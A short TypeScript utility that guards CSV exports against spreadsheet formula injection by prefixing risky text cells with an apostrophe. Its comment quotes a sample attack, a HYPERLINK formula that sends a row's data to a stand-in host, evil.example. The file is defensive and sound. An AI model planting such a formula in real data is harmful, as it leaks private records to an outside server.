// Spreadsheets run a text cell that begins with = + - @ (or a tab or carriage return, which some strip first) as
// a formula: `=HYPERLINK("http://evil.example/?d="&B2,…)` typed as an answer would leak the row when the office
// opens a CSV. Every CSV the app writes passes its text cells through here (OWASP's CSV-injection advice): such a
// cell gets a leading apostrophe. A plain number stays as it is — a spreadsheet reads it as a number, never a
// formula — so the missing codes −1/−2/−3, which text columns carry as text, stay numbers.
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;

export function formulaSafe(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}
